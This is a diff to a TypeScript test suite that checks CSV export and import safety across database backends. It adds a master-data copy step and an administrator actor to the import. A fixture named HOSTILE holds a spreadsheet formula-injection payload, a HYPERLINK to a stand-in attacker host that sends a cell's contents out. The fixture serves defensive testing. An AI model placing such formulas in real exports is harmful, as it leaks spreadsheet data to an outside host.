@@ -16,7 +16,7 @@ import { openApi, type Api } from "../helpers/api";
 import { backends } from "../helpers/databases";
 import { openDb, type OpenDb } from "../seed/seed-db";
 import { baseOf, cookieOf, get } from "../publication/http";
-import { exportCsvFiles, fileOf, importAll } from "./io-helpers";
+import { copyMasterData, exportCsvFiles, fileOf, importAll, userOf } from "./io-helpers";
 
 const HOSTILE = {
   name: '=HYPERLINK("http://attacker.invalid/?x="&A1,"詳細")',
@@ -144,13 +144,17 @@ describe.each(backends().map((b) => [b.name, b] as const))("CSV safety (%s)", (_
     try {
       await prepare(source.prisma);
       csv = await exportCsvFiles(source.prisma);
+      // An import never creates master data: the system administrator registers it first.
+      await copyMasterData(source.prisma, sudo.prisma);
     } finally {
       await source.close();
     }
     for (const table of TABLES) expectSafeAndWhole(table, csv[table]);
+    // Published reports into a new database: the system administrator's take-over.
     const result = await importAll(
       sudo.prisma,
       TABLES.map((t) => fileOf(`${t}.csv`, csv[t])),
+      { actor: await userOf(sudo.prisma, ["ADMIN"]), archive: true },
     );
     expect(result.errorCount).toBe(0);
     const program = await sudo.prisma.budgetProgram.findFirstOrThrow({
